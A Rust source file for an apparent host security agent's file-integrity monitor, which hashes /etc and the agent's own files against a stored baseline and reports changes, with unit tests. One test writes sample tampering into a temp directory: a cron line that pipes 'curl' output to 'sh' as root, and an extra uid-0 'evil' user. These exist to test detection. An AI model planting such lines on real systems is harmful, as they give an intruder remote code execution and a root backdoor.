//! File integrity: SHA-256 of the files under the watched paths (`/etc`,
//! the agent's own binary and configuration by default) against a baseline
//! kept on disk beside the spool, so a change made while the agent was
//! stopped is found at its next start. A file is hashed again only when its
//! size or modification time changed. Changes are reported once; the
//! baseline then follows them.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use tierwatch_protocol::{Event, Severity};

/// More changes than this in one check are one summary event.
const MAX_EVENTS: usize = 20;

/// What is kept of a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub size: u64,
    pub mtime: i64,
    pub sha256: String,
}

/// One difference: kind, severity, path, the entry before and after.
type Change<'a> = (&'static str, Severity, PathBuf, Option<&'a Entry>, Option<&'a Entry>);

/// The baseline and where it lives.
#[derive(Debug)]
pub struct FileWatch {
    paths: Vec<PathBuf>,
    /// Files whose change is critical (the agent's own binary and configuration).
    critical: BTreeSet<PathBuf>,
    max_files: usize,
    store: PathBuf,
    baseline: Option<BTreeMap<PathBuf, Entry>>,
}

fn sha256(path: &Path) -> Option<String> {
    let mut f = std::fs::File::open(path).ok()?;
    let mut ctx = ring::digest::Context::new(&ring::digest::SHA256);
    let mut buf = [0u8; 64 * 1024];
    loop {
        let n = f.read(&mut buf).ok()?;
        if n == 0 {
            break;
        }
        ctx.update(&buf[..n]);
    }
    Some(tierwatch_protocol::ids::hex(ctx.finish().as_ref()))
}

impl FileWatch {
    /// Watches `paths` (files or directories, walked without following
    /// links), at most `max_files`; the baseline is kept in `store`.
    pub fn new(paths: Vec<PathBuf>, critical: Vec<PathBuf>, max_files: usize, store: PathBuf) -> Self {
        FileWatch { paths, critical: critical.into_iter().collect(), max_files, store, baseline: None }
    }

    fn walk(&self, previous: &BTreeMap<PathBuf, Entry>) -> BTreeMap<PathBuf, Entry> {
        let mut out = BTreeMap::new();
        let mut stack: Vec<PathBuf> = self.paths.iter().rev().cloned().collect();
        while let Some(p) = stack.pop() {
            if out.len() >= self.max_files {
                tracing::warn!(
                    max_files = self.max_files,
                    "file integrity: more files than max_files; the rest is not watched"
                );
                break;
            }
            let Ok(meta) = std::fs::symlink_metadata(&p) else { continue };
            if meta.is_dir() {
                if let Ok(rd) = std::fs::read_dir(&p) {
                    let mut children: Vec<PathBuf> = rd.flatten().map(|e| e.path()).collect();
                    children.sort();
                    stack.extend(children.into_iter().rev());
                }
            } else if meta.is_file() {
                let (size, mtime) = (meta.len(), meta.mtime());
                let sha = match previous.get(&p) {
                    Some(e) if e.size == size && e.mtime == mtime => Some(e.sha256.clone()),
                    _ => sha256(&p),
                };
                if let Some(sha256) = sha {
                    out.insert(p, Entry { size, mtime, sha256 });
                }
            }
        }
        out
    }

    fn load(&self) -> Option<BTreeMap<PathBuf, Entry>> {
        let text = std::fs::read_to_string(&self.store).ok()?;
        let mut out = BTreeMap::new();
        for line in text.lines() {
            let mut f = line.splitn(4, ' ');
            let (Some(sha), Some(size), Some(mtime), Some(path)) = (f.next(), f.next(), f.next(), f.next()) else {
                continue;
            };
            let (Ok(size), Ok(mtime)) = (size.parse(), mtime.parse()) else { continue };
            out.insert(PathBuf::from(path), Entry { size, mtime, sha256: sha.to_string() });
        }
        Some(out)
    }

    fn save(&self, files: &BTreeMap<PathBuf, Entry>) {
        let text: String =
            files.iter().map(|(p, e)| format!("{} {} {} {}\n", e.sha256, e.size, e.mtime, p.display())).collect();
        let tmp = self.store.with_extension("tmp");
        let saved = std::fs::write(&tmp, text).and_then(|_| std::fs::rename(&tmp, &self.store));
        if let Err(e) = saved {
            tracing::warn!(file = %self.store.display(), error = %e, "file integrity: baseline not saved");
        }
    }

    /// One check at `now_ms`: the changes since the baseline, which then follows them.
    pub fn check(&mut self, now_ms: i64) -> Vec<Event> {
        let baseline = match self.baseline.take() {
            Some(b) => Some(b),
            None => self.load(),
        };
        let current = self.walk(baseline.as_ref().unwrap_or(&BTreeMap::new()));
        let Some(old) = baseline else {
            // The first check ever: the baseline.
            self.save(&current);
            self.baseline = Some(current);
            return Vec::new();
        };
        let mut changes: Vec<Change<'_>> = Vec::new();
        for (p, e) in &current {
            match old.get(p) {
                None => changes.push(("file_added", Severity::Info, p.clone(), None, Some(e))),
                Some(o) if o.sha256 != e.sha256 => {
                    changes.push(("file_changed", Severity::Warning, p.clone(), Some(o), Some(e)))
                }
                Some(_) => {}
            }
        }
        for (p, o) in &old {
            if !current.contains_key(p) {
                changes.push(("file_removed", Severity::Warning, p.clone(), Some(o), None));
            }
        }
        let mut out = Vec::new();
        for (kind, severity, path, before, after) in changes.iter().take(MAX_EVENTS) {
            let severity =
                if self.critical.contains(path) && *kind != "file_added" { Severity::Critical } else { *severity };
            let mut attributes = BTreeMap::from([("src".to_string(), path.display().to_string())]);
            if let Some(b) = before {
                attributes.insert("previous_sha256".into(), b.sha256.clone());
            }
            if let Some(a) = after {
                attributes.insert("sha256".into(), a.sha256.clone());
                attributes.insert("size".into(), a.size.to_string());
                attributes.insert("mtime".into(), a.mtime.to_string());
            }
            out.push(Event::new(kind, severity, now_ms, attributes));
        }
        if changes.len() > MAX_EVENTS {
            let rest: BTreeMap<String, String> = BTreeMap::from([
                ("src".to_string(), self.paths.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(",")),
                ("changes".to_string(), changes.len().to_string()),
                ("reported".to_string(), MAX_EVENTS.to_string()),
            ]);
            out.push(Event::new("files_changed", Severity::Warning, now_ms, rest));
        }
        if !changes.is_empty() {
            self.save(&current);
        }
        self.baseline = Some(current);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(v: &[Event]) -> Vec<String> {
        v.iter()
            .map(|e| format!("{}:{}:{}", e.kind, e.severity, e.attributes["src"].rsplit('/').next().unwrap_or("")))
            .collect()
    }

    #[test]
    fn changes_are_found_once_and_survive_a_restart() {
        let dir = tempfile::tempdir().unwrap();
        let etc = dir.path().join("etc");
        std::fs::create_dir_all(etc.join("ssh")).unwrap();
        std::fs::write(etc.join("passwd"), "root:x:0:0\n").unwrap();
        std::fs::write(etc.join("ssh/sshd_config"), "PermitRootLogin no\n").unwrap();
        let agent = dir.path().join("agent.yaml");
        std::fs::write(&agent, "node: c1\n").unwrap();
        let store = dir.path().join("file-baseline");
        let watch = || FileWatch::new(vec![etc.clone(), agent.clone()], vec![agent.clone()], 1000, store.clone());
        let mut w = watch();
        assert!(w.check(0).is_empty(), "the baseline");
        std::fs::write(etc.join("passwd"), "root:x:0:0\nevil:x:0:0\n").unwrap();
        std::fs::write(etc.join("cron.d"), "* * * * * root curl x | sh\n").unwrap();
        std::fs::remove_file(etc.join("ssh/sshd_config")).unwrap();
        let got = kinds(&w.check(1));
        assert_eq!(got, ["file_added:1:cron.d", "file_changed:2:passwd", "file_removed:2:sshd_config"]);
        assert!(w.check(2).is_empty(), "reported once");
        // Changed while the agent was stopped: found at the next start.
        drop(w);
        std::fs::write(&agent, "node: c1\nsensors: null\n").unwrap();
        let mut w = watch();
        assert_eq!(kinds(&w.check(3)), ["file_changed:3:agent.yaml"], "the agent's own config is critical");
    }

    #[test]
    fn many_changes_are_one_summary() {
        let dir = tempfile::tempdir().unwrap();
        let mut w = FileWatch::new(vec![dir.path().join("d")], vec![], 1000, dir.path().join("b"));
        std::fs::create_dir_all(dir.path().join("d")).unwrap();
        w.check(0);
        for i in 0..50 {
            std::fs::write(dir.path().join(format!("d/{i}")), "x").unwrap();
        }
        let got = w.check(1);
        assert_eq!(got.len(), MAX_EVENTS + 1);
        assert_eq!(got.last().unwrap().attributes["changes"], "50");
    }
}
